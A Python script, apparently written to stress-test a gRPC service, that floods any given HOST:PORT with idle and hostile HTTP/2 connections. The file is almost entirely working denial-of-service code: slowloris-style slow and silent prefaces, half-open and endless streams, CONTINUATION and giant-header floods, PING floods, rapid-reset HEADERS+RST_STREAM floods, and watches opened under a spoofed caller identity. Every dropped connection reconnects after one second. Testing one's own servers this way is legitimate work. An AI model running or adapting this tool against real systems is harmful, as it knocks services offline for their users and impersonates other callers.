"""Connections to a server by callers who mean no good, and by many who are just idle.

    hostile_connections.py HOST:PORT [--idle N] [--hostile N] [--seconds S] [--in-step]

Each hostile connection does one bad thing, at a pace, again and again; whoever is cut
off comes back a second later. What they send is well-formed as far as it goes: the harm
is in what never comes, or never ends. Strangers do not know of each other: they act at
different moments, unless they are to act in step.
"""

from __future__ import annotations

import argparse
import dataclasses
import errno
import os
import selectors
import socket
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 3, 4, 6, 7, 8, 9)
ACK, END_STREAM, END_HEADERS = 1, 1, 4
INITIAL_WINDOW = 4  # the setting
FRAME_HEADER_BYTES = 9
FRAME_BYTES_MAX = 16_384
STREAMS_MAX = 1_000

COME_BACK_SECONDS = 1.0
TICK_SECONDS = 0.05
IDLE_AT_ONCE = 50
PARTS = 25  # of a tick: each connection has its own


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
            + payload)


def length(number: int) -> bytes:
    """A length of HPACK: in seven bits, and then as many as it needs."""
    if number < 127:
        return bytes([number])
    encoded = bytearray([127])
    number -= 127
    while number >= 128:
        encoded.append(number % 128 | 128)
        number //= 128
    encoded.append(number)
    return bytes(encoded)


def field(name: str, value: str) -> bytes:
    return b"\0" + length(len(name)) + name.encode() + length(len(value)) + value.encode()


def call_of(path: str, **fields: str) -> bytes:
    """The headers of a gRPC call."""
    return b"".join([
        field(":method", "POST"), field(":scheme", "http"), field(":path", path),
        field(":authority", "here"), field("content-type", "application/grpc"),
        field("te", "trailers"),
        *(field(name.replace("_", "-"), value) for name, value in fields.items())])


# Methods that take a message, and one that goes on for as long as it may.
UNARY = "/milkway.inventory.v1.StockService/ListBalances"
WATCH = "/milkway.shipments.v1.ShipmentService/WatchShipments"


class Connection:
    """One connection; what it does wrong is up to those that derive from it."""

    settings = b""

    def __init__(self, swarm: "Swarm", number: int):
        self.swarm = swarm
        self.number = number
        self.socket: socket.socket | None = None
        self.has_begun = False
        self.comes_back = 0.0
        self.unsent = b""
        self.received = b""
        self.window = 65_535
        self.stream = 1
        self.ticks = 0

    def open(self) -> None:
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.socket.setblocking(False)
        self.socket.connect_ex(self.swarm.address)
        self.unsent, self.received, self.window = b"", b"", 65_535
        self.stream, self.ticks = 1, 0
        self.swarm.selector.register(self.socket, selectors.EVENT_READ, self)
        self.has_begun = True
        self.begin()

    def close(self) -> None:
        if self.socket is None:
            return
        self.swarm.selector.unregister(self.socket)
        self.socket.close()
        self.socket = None
        self.swarm.cut_off[type(self).__name__] = (
            self.swarm.cut_off.get(type(self).__name__, 0) + 1)
        self.comes_back = time.monotonic() + COME_BACK_SECONDS

    def send(self, octets: bytes) -> None:
        self.unsent += octets
        self.flush()

    def flush(self) -> None:
        if self.socket is None or not self.unsent:
            return
        try:
            sent = self.socket.send(self.unsent)
            self.unsent = self.unsent[sent:]
        except (BlockingIOError, InterruptedError):
            pass
        except OSError as error:
            if error.errno != errno.ENOTCONN:  # it connects still
                self.close()

    def receive(self) -> None:
        try:
            octets = self.socket.recv(65_536)
        except (BlockingIOError, InterruptedError):
            return
        except OSError:
            octets = b""
        if not octets:
            self.close()
            return
        self.received += octets
        while self.socket is not None and len(self.received) >= FRAME_HEADER_BYTES:
            size = int.from_bytes(self.received[:3], "big")
            if len(self.received) < FRAME_HEADER_BYTES + size:
                return
            kind, flags = self.received[3], self.received[4]
            payload = self.received[FRAME_HEADER_BYTES:FRAME_HEADER_BYTES + size]
            stream = int.from_bytes(self.received[5:FRAME_HEADER_BYTES], "big")
            self.received = self.received[FRAME_HEADER_BYTES + size:]
            self.hear(kind, flags, stream, payload)

    def hear(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        """Answers what a living client answers, so that nobody takes it for dead."""
        if kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == SETTINGS and not flags & ACK:
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == WINDOW_UPDATE and stream == 0:
            self.window += int.from_bytes(payload, "big")
        elif kind == GOAWAY:
            self.close()

    def begin(self) -> None:
        self.send(PREFACE + frame(SETTINGS, 0, 0, self.settings))

    def tick(self) -> None:
        """Twenty times a second."""


class Idle(Connection):
    """Says hello, and nothing more."""


class Silent(Connection):
    """Does not even say hello."""

    def begin(self) -> None:
        pass

    def hear(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        pass


class SlowHello(Silent):
    """Says hello a letter at a time."""

    def tick(self) -> None:
        self.ticks += 1
        if self.ticks % 10 == 0:
            self.send(PREFACE[:-1][self.ticks // 10 - 1:self.ticks // 10])


class HalfOpenStreams(Connection):
    """Begins as many calls as it can, without deadlines, and never sends their messages."""

    def tick(self) -> None:
        if self.stream > 2 * STREAMS_MAX:
            return
        calls = []
        for _ in range(50):
            calls.append(frame(HEADERS, END_HEADERS, self.stream, call_of(UNARY)))
            self.stream += 2
        self.send(b"".join(calls))


class FarDeadlines(HalfOpenStreams):
    """Gives its calls a deadline in eleven thousand years."""

    def tick(self) -> None:
        if self.stream > 2 * STREAMS_MAX:
            return
        self.send(frame(HEADERS, END_HEADERS, self.stream,
                        call_of(UNARY, grpc_timeout="99999999H"))
                  + frame(DATA, 0, self.stream, b"\0\0\0\0\x09half"))
        self.stream += 2


class EndlessHeaders(Connection):
    """Sends headers that go on and on."""

    def hear(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        """Between headers nothing else may be sent."""

    def begin(self) -> None:
        super().begin()
        self.send(frame(HEADERS, 0, 1, call_of(UNARY)))

    def tick(self) -> None:
        if not self.unsent:
            self.send(frame(CONTINUATION, 0, 1, field("x-note", "x" * 16_000)))


class GiantHeaders(Connection):
    """Calls with a megabyte of headers each."""

    def tick(self) -> None:
        self.ticks += 1
        if self.unsent or self.ticks % 20:
            return
        more = b"".join(frame(CONTINUATION, END_HEADERS if last else 0, self.stream,
                              field("x-note", "x" * 16_000)) for last in [False] * 63 + [True])
        self.send(frame(HEADERS, END_STREAM, self.stream, call_of(UNARY)) + more)
        self.stream += 2


class EndlessMessages(Connection):
    """Sends large messages in crumbs, many at once, and never the last one."""

    message = 8 * 1024 * 1024 - 1
    streams = range(1, 64, 2)

    def begin(self) -> None:
        super().begin()
        self.sent = dict.fromkeys(self.streams, 0)
        for stream in self.streams:
            self.send(frame(HEADERS, END_HEADERS, stream, call_of(UNARY))
                      + frame(DATA, 0, stream, b"\0" + self.message.to_bytes(4, "big")))
            self.window -= 5

    def tick(self) -> None:
        self.ticks += 1
        stream = self.streams[self.ticks % len(self.streams)]
        size = min(FRAME_BYTES_MAX, self.window, self.message - 1 - self.sent[stream])
        if self.unsent or size <= 0:
            return
        self.window -= size
        self.sent[stream] += size
        self.send(frame(DATA, 0, stream, b"\0" * size))


class DeafWatchers(Connection):
    """Opens watches in somebody's name, and takes nothing of what they tell."""

    settings = INITIAL_WINDOW.to_bytes(2, "big") + (0).to_bytes(4, "big")

    def tick(self) -> None:
        if self.stream > 2 * STREAMS_MAX:
            return
        self.send(frame(HEADERS, END_HEADERS, self.stream,
                        call_of(WATCH, x_milkway_dev_caller="procurement:mallory"))
                  + frame(DATA, END_STREAM, self.stream, b"\0\0\0\0\0"))
        self.stream += 2


class PingFlood(Connection):
    """Asks all the time whether anybody is there."""

    def tick(self) -> None:
        if not self.unsent:
            self.send(frame(PING, 0, 0, b"mischief") * 100)


class ResetFlood(Connection):
    """Begins calls and takes them back at once."""

    def tick(self) -> None:
        if self.unsent:
            return
        calls = []
        for _ in range(10):
            calls.append(frame(HEADERS, END_HEADERS, self.stream, call_of(UNARY))
                         + frame(RST_STREAM, 0, self.stream, (8).to_bytes(4, "big")))
            self.stream += 2
        self.send(b"".join(calls))


class Stranger(Connection):
    """Speaks something else."""

    def begin(self) -> None:
        self.send(b"GET /wp-login.php HTTP/1.1\r\nHost: here\r\n\r\n")


HOSTILE = [Silent, SlowHello, HalfOpenStreams, FarDeadlines, EndlessHeaders, GiantHeaders,
           EndlessMessages, DeafWatchers, PingFlood, ResetFlood, Stranger]


@dataclasses.dataclass
class Swarm:
    """All the connections of one attack."""

    address: tuple[str, int]
    idle: int
    hostile: int
    kinds: list[type[Connection]]
    parts: int = PARTS

    def __post_init__(self) -> None:
        self.selector = selectors.DefaultSelector()
        self.cut_off: dict[str, int] = {}
        self.connections: list[Connection] = (
            [Idle(self, number) for number in range(self.idle)]
            + [self.kinds[number % len(self.kinds)](self, number) for number in range(self.hostile)])

    def run(self, seconds: float, ready=None) -> None:
        end = time.monotonic() + seconds
        next_tick = 0.0
        part = 0
        while (now := time.monotonic()) < end:
            if now >= next_tick:
                next_tick = now + TICK_SECONDS / self.parts
                self.tick(now, part)
                part = (part + 1) % self.parts
                if ready is not None and all(each.has_begun for each in self.connections):
                    ready()
                    ready = None
            for key, _ in self.selector.select(max(0.0, next_tick - time.monotonic())):
                if key.data.socket is not None:
                    key.data.receive()

    def tick(self, now: float, part: int) -> None:
        opened = 0
        for connection in self.connections[part::self.parts]:
            if connection.socket is None:
                # Not all in one moment: the queue of a server that listens is short.
                if now >= connection.comes_back and opened < IDLE_AT_ONCE / self.parts:
                    connection.open()
                    opened += 1
                continue
            connection.flush()
            if connection.socket is not None:
                connection.tick()

    def open_now(self) -> int:
        return sum(1 for connection in self.connections if connection.socket is not None)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("address", help="HOST:PORT")
    parser.add_argument("--idle", type=int, default=1_000)
    parser.add_argument("--hostile", type=int, default=200)
    parser.add_argument("--only", help="one kind of hostile connection: " + ", ".join(
        kind.__name__ for kind in HOSTILE))
    parser.add_argument("--seconds", type=float, default=3_600.0)
    parser.add_argument("--in-step", action="store_true", help="all act in the same moments")
    arguments = parser.parse_args()
    host, port = arguments.address.rsplit(":", 1)
    # The harm is to be done by what is sent, not by taking the processor away.
    os.nice(19)
    kinds = [kind for kind in HOSTILE if arguments.only in (None, kind.__name__)]
    swarm = Swarm((host, int(port)), arguments.idle, arguments.hostile, kinds,
                  1 if arguments.in_step else PARTS)
    swarm.run(arguments.seconds, lambda: print("attacking", flush=True))
    print(f"open at the end: {swarm.open_now()}; cut off: {swarm.cut_off}", flush=True)
    sys.exit(0)


if __name__ == "__main__":
    main()
